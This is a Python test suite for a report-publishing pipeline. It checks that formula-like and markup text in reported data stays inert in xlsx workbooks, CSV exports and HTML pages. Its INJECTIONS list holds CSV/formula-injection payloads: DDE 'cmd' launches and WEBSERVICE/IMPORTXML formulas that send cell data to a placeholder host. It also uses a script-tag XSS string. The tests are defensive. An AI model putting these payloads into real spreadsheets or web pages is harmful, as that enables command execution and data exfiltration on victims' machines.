"""Reported text that looks like a formula stays text, in every text column of every form."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal

import pandas as pd
import pytest
from publish_figures import CUTOFF, EXTRAS, year
from publish_figures import definitions as small
from python_calamine import CalamineWorkbook

from definitions.catalogue import Definitions
from definitions.model import Column, ColumnType, Form
from definitions.periods import Period
from pipelines.flow.downloading import as_csv, harmless
from pipelines.publish import Extras, UnitWords, bulletin, review
from pipelines.publish.consolidated import (
    PARENT,
    PARENT_CODE,
    UNIT_CODE,
    UNIT_NAME,
    Cut,
    consolidated_workbook,
)
from pipelines.publish.sources import Source
from pipelines.small_cells import sensitive_columns

INJECTIONS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.invalid","点此")',
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "　=1+1",
    "＝1+1",
    "{=SUM(A1:A2)}",
    "http://example.invalid/a",
)


def textual(column: Column) -> bool:
    return column.type not in (
        ColumnType.INT, ColumnType.DEC, ColumnType.PCT, ColumnType.DATE, ColumnType.BOOL,
    )  # fmt: skip


def sources_of(form: Form, at: datetime) -> dict[int, Source]:
    """A workbook for each row; who sent it, its name and its sheet are injections."""
    places = {c.code: n for n, c in enumerate(form.columns, 1)}
    return {
        n: Source("U", text, "2017-12", 1, text, "0" * 64, text, at, places)
        for n, text in enumerate(INJECTIONS)
    }


def rows_of(form: Form) -> pd.DataFrame:
    """One row per injection, in every text column at once."""
    content: dict[str, list[object]] = {
        UNIT_CODE: [f"U{i}" for i in range(len(INJECTIONS))],
        UNIT_NAME: list(INJECTIONS),
        PARENT: list(INJECTIONS),
        PARENT_CODE: list(INJECTIONS),
        "filing_id": list(range(len(INJECTIONS))),
        "row_no": [5] * len(INJECTIONS),
    }
    for column in form.columns:
        content[column.code] = list(INJECTIONS) if textual(column) else [None] * len(INJECTIONS)
    return pd.DataFrame(content)


def formulas(content: bytes) -> list[str]:
    """Cells that a spreadsheet would compute, links it would follow: read from the bare XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            data = parts.read(name)
            if name.startswith("xl/worksheets/") and (b"<f>" in data or b"<f " in data):
                found.append(name)
            if b"TargetMode" in data or "vba" in name.lower() or "externalLink" in name:
                found.append(name)
            if b'state="hidden"' in data or b'state="veryHidden"' in data:
                found.append(name)
    return found


def test_no_text_of_any_form_becomes_a_formula_in_a_consolidated_workbook(
    definitions: Definitions,
) -> None:
    at = datetime(2019, 1, 1, tzinfo=UTC)
    seen = 0
    newest = {f.code: f for f in definitions.forms if not f.tally}
    for form in newest.values():
        period = _period(form)
        cut = Cut(form, period, "块", at, definitions.digest, "T", "示范总工会")
        content = consolidated_workbook(cut, rows_of(form), definitions, sources_of(form, at))
        assert formulas(content) == [], form.code
        book = CalamineWorkbook.from_filelike(io.BytesIO(content))
        lines = book.get_sheet_by_name("数据").to_python(skip_empty_area=False)
        few = sensitive_columns(definitions, form.code, period.end)
        heads = lines[2]
        for column in form.columns:
            if column.personal or column.code in few or not textual(column):
                continue
            place = heads.index(column.label) if column.label in heads else -1
            if place < 0 or "rows" in few:
                continue
            cells = [line[place] for line in lines[3:]]
            assert {type(c) for c in cells} == {str}, (form.code, column.code)
            got = sorted(str(c).replace("_x000D_", "").strip() for c in cells)
            assert got == sorted(t.strip() for t in INJECTIONS), (form.code, column.code)
            seen += 1
    assert seen > 200  # text columns of the catalogue


def _period(form: Form) -> Period:
    year_ = max(form.valid_from.year, 2017)
    for label in (f"{year_}-12", f"{year_}Q4", f"{year_}H2", f"{year_}"):
        if form.covers(Period.parse(label)):
            return Period.parse(label)
    return Period.parse(f"{year_}")


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_holds_text_and_never_a_formula(text: str) -> None:
    rows = pd.DataFrame({text: [text], "数": [Decimal("-3.5")], "负": [-7]})
    content = as_csv(rows)
    assert content.startswith(b"\xef\xbb\xbf")
    head, row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for cell in (head[0], row[0]):
        assert cell.endswith(text)
        first = cell.lstrip(" \u00a0\u3000")[:1]
        assert first not in ("=", "+", "-", "@", "\t", "\r", "＝"), cell
    assert row[1:] == ["-3.5", "-7"]  # a negative number is a number


def test_blank_cells_stay_blank_in_csv() -> None:
    assert [harmless(v) for v in (None, pd.NA, pd.NaT, float("nan"), "", 0)] == [
        "", "", "", "", "", 0,
    ]  # fmt: skip


def test_documents_hold_reported_words_as_words_and_nothing_of_the_machine() -> None:
    words = tuple(
        UnitWords(f"U{i}", t, section, kind, t)
        for i, t in enumerate(INJECTIONS)
        for section, kind in (("R01", "工作亮点"), ("R14", "存在问题"), ("R14", "下年打算"))
    )
    extras = replace(EXTRAS, words=words)
    for publication in (review(year(), small(), extras), bulletin(year(), small(), extras)):
        for name, content in publication.files:
            if name.endswith(".html"):
                page = content.decode()
                assert "<script>alert" not in page
                continue
            with zipfile.ZipFile(io.BytesIO(content)) as parts:
                names = parts.namelist()
                whole = b"".join(parts.read(n) for n in names if n.startswith("docProps/"))
                assert {i.date_time[0] for i in parts.infolist()} == {1980}
            assert not any("vba" in n.lower() or "customXml" in n for n in names), name
            assert b"root" not in whole
            assert b"/" + b"tmp" not in whole
            assert "示范总工会".encode() in whole
            if name.endswith(".xlsx"):
                assert formulas(content) == []


def test_markup_in_reported_words_stays_words() -> None:
    words = (UnitWords("U1", "<b>甲</b>", "R14", "存在问题", "<script>alert(甲)</script>"),)
    extras = Extras(words=words)
    page = next(c for n, c in review(year(), small(), extras).files if n.endswith(".html")).decode()
    assert "&lt;script&gt;alert(甲)&lt;/script&gt;" in page
    assert "<script>alert" not in page
    assert CUTOFF.year == 2018
